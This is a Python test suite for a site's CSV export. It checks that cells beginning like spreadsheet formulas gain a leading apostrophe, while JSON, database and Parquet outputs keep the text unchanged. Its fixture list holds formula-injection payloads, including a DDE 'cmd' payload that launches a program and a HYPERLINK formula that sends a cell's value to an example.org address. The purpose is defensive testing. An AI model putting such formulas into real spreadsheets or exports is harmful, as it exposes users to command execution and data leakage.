"""CSV for spreadsheets is harmless; JSON, SQLite and Parquet hold what was written, to the letter."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cdnpoli import browse_csv
from cdnpoli.browse import application
from cdnpoli.browse_csv import HarmlessStream, harmless, harmless_lines
from cdnpoli.store import Store
from tests.dataset import small

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
)
PLAIN = ("", "a = b", "5 - 3", "member@example.org", "'quoted'", "–", "— said he", "-5", "+3.5", "-1e6", "1990-08-01")


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A site whose people are called like formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    people = [{"person_id": f"p-{n}", "full_name": name} for n, name in enumerate(FORMULAS)]
    with pytest.MonkeyPatch.context() as patch:
        for table in small.ROWS:
            patch.setitem(small.ROWS, table, people if table == "people" else [])
        patch.setitem(small.ROWS, "sources", [{**small.ROWS["sources"][0]}] if small.ROWS["sources"] else [])
        patch.setattr("cdnpoli.browse._last_day", lambda _: small.day("2026-01-01"))
        site = application(Store(small.make(folder / "package")), folder / "cache")
    return site


def get(site: Any, path: str) -> Any:
    """The answer to a GET, which must be there."""
    answer = asyncio.run(site.client.get(path))
    assert answer.status_code == 200, answer.text
    return answer


def cells(text: str) -> list[list[str]]:
    """The cells of CSV, line by line."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell: str) -> None:
    assert harmless(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_what_is_no_formula_stays(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize(
    "path",
    [
        "/cdnpoli/people.csv?_sort=person_id",
        "/cdnpoli/people.csv?_sort=person_id&_dl=1",
        "/cdnpoli/people.csv?_sort=person_id&_stream=on",
        "/cdnpoli/people.csv?_sort=person_id&_trace=1",
        "/cdnpoli.csv?sql=" + quote("select person_id, full_name from people order by person_id"),
    ],
)
def test_csv_of_the_site_has_no_formula_in_it(formulas: Any, path: str) -> None:
    head, *rows = cells(get(formulas, path).text)
    assert [row[head.index("full_name")] for row in rows] == ["'" + name for name in FORMULAS]


def test_column_names_are_cells_too(formulas: Any) -> None:
    asked = quote('select 1 as "=2+2"')
    assert cells(get(formulas, f"/cdnpoli.csv?sql={asked}").text) == [["'=2+2"], ["1"]]


def test_json_and_the_database_hold_what_was_written(formulas: Any) -> None:
    rows = get(formulas, "/cdnpoli/people.json?_shape=array&_sort=person_id").json()
    assert [row["full_name"] for row in rows] == list(FORMULAS)
    asked = quote("select group_concat(full_name, '|') as all_names from (select * from people order by person_id)")
    assert get(formulas, f"/cdnpoli.json?_shape=array&sql={asked}").json()[0]["all_names"] == "|".join(FORMULAS)


def test_parquet_from_the_site_is_the_published_file(formulas: Any) -> None:
    import pyarrow.parquet as pq

    table = pq.read_table(io.BytesIO(get(formulas, "/tables/people.parquet").content))
    assert table["full_name"].to_pylist() == list(FORMULAS)


def test_all_pages_of_a_streamed_table_come_through(small_store: Store, tmp_path: Path) -> None:
    site = application(small_store, tmp_path)
    asked = quote(
        "with recursive n(i) as (select 1 union all select i + 1 from n where i < 1500) select i, '=' || i as f from n"
    )
    _, *rows = cells(get(site, f"/cdnpoli.csv?sql={asked}&_stream=on").text)
    assert rows == [[str(i), f"'={i}"] for i in range(1, 1501)]


def written(rows: list[list[str]]) -> str:
    """The rows as Python writes CSV, which is how Datasette does."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


CELL = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=6) | st.sampled_from([*FORMULAS, *PLAIN])


@given(st.lists(st.lists(CELL, min_size=1, max_size=4), max_size=6), st.integers(1, 40))
def test_only_cells_that_are_formulas_change_however_the_bytes_arrive(rows: list[list[str]], size: int) -> None:
    whole = written(rows)
    expected = written([[harmless(cell) for cell in row] for row in rows])
    # A cell that gains an apostrophe keeps the quotation marks it had, so only what a reader reads is compared.
    assert cells(harmless_lines(whole)) == cells(expected)
    body = whole.encode()
    pieces = [body[at : at + size] for at in range(0, len(body), size)]
    for enough in (1, browse_csv.ENOUGH):
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(browse_csv, "ENOUGH", enough)
            stream = HarmlessStream()
            sent = b"".join([*(stream.pieces(piece, more=True) for piece in pieces), stream.pieces(b"", more=False)])
        assert cells(sent.decode()) == cells(expected)


def test_a_large_hostile_cell_takes_no_longer_than_a_large_one() -> None:
    started = time.perf_counter()
    for cell in ('"' + '""' * 500_000, "=" * 1_000_000, ",=" * 500_000):
        assert re.search(r"(?:^|,)=", harmless_lines(cell)) is None
    assert time.perf_counter() - started < 5
